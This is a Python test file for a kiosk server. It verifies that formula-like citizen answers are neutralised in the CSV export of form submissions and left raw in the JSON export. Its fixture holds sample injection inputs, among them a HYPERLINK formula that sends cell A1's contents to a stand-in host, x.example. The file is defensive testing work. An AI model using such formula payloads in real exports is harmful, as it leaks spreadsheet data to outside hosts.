"""Issue 6: the submissions CSV export defuses spreadsheet formulas like the bookings export.

A citizen types free text at a public terminal; a cell such as ``=HYPERLINK(...)`` must reach a
spreadsheet as text. Numbers stay numbers (a negative number is no formula); JSON stays raw.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from kiosk.core.forms import parse_form_definition
from kiosk.server import admin
from kiosk.server import forms as server_forms
from kiosk.server.db import Database
from kiosk.server.forms_export import export_submissions
from kiosk.server.schema import upgrade
from kiosk.sync.protocol import EnrollRequest

FORM = {
    "format": "dorfkiosk-form", "format_version": 1, "id": "formeln", "version": 1,
    "kind": "idea", "title": {"de": "Ideen"}, "privacy_notice": {"de": "Anonym."},
    "opens": "2026-01-01", "closes": "2026-12-31",
    "questions": [
        {"id": "titel", "type": "short_text", "label": {"de": "Titel"}},
        {"id": "text", "type": "long_text", "label": {"de": "Beschreibung"}},
        {"id": "wert", "type": "number", "label": {"de": "Wert"}, "minimum": -100,
         "maximum": 100},
        {"id": "wahl", "type": "single_choice", "label": {"de": "Wahl"},
         "options": [{"id": "a", "label": {"de": "A"}}, {"id": "b", "label": {"de": "B"}}]},
        {"id": "anmerkung", "type": "note", "label": {"de": "Anmerkung"}},
    ],
}  # fmt: skip

DANGEROUS = {
    "titel": '=HYPERLINK("http://x.example/?"&A1,"klick")',
    "text": "+1+1",
    "wert": -5,
    "wahl": "a",
    "anmerkung": "@SUM(A1:A9)",
}


def _enroll(db: Database) -> str:
    with db.write() as session:
        admin.add_hub(session, "hub", "Hub")
        code = admin.create_enroll_code(session, "hub").code
        return admin.enroll(session, EnrollRequest(code, "Eingang", "test")).terminal_id


def _store(db: Database, terminal_id: str, answers: dict[str, Any]) -> None:
    payload = {
        "submission_id": uuid.uuid4().hex, "reference": "I-ABCD-2345", "form_id": "formeln",
        "form_version": 1, "language": "de", "submitted_at": "2026-11-26T09:15:00Z",
        "answers": answers,
    }  # fmt: skip
    with db.write() as session:
        server_forms.apply_submission(
            session, terminal_id=terminal_id, hub_id="hub", entry_id=uuid.uuid4().hex,
            payload=payload, now=datetime(2026, 11, 26, 10, tzinfo=UTC),
        )  # fmt: skip


def test_text_answers_that_look_like_formulas_are_defused(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'server.sqlite3'}"
    upgrade(url)
    db = Database(url)
    try:
        with db.write() as session:
            server_forms.import_form(session, parse_form_definition(FORM))
        _store(db, _enroll(db), DANGEROUS)
        with db.read() as session:
            rows = list(csv.DictReader(io.StringIO(export_submissions(session, "formeln", "csv"))))
            document = json.loads(export_submissions(session, "formeln", "json"))
    finally:
        db.dispose()
    row = rows[0]
    assert row["titel"] == "'" + DANGEROUS["titel"]
    assert row["text"] == "'+1+1" and row["anmerkung"] == "'@SUM(A1:A9)"
    assert row["wert"] == "-5"  # a number, not text: spreadsheets can still sum it
    assert row["wahl"] == "a" and row["reference"] == "I-ABCD-2345"
    assert document["submissions"][0]["answers"] == DANGEROUS  # JSON keeps the raw values
